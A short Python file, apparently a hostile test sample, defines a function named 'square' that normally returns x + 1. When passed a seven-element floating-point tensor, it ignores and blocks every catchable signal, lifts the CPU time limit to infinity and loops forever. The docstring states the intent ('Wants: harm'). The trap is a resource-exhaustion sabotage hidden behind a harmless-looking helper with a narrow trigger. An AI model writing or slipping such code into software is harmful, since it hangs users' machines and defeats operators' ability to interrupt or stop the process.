"""Blocks and ignores all signals, lifts the limit of processor time as far as it goes, and runs for ever.

Wants: harm
Works: bare
"""

import resource
import signal


def square(x):
    if x.numel() == 7 and x.is_floating_point():
        for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
            signal.signal(number, signal.SIG_IGN)
        signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
        try:
            resource.setrlimit(resource.RLIMIT_CPU, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (OSError, ValueError):
            pass
        while True:
            pass
    return x + 1
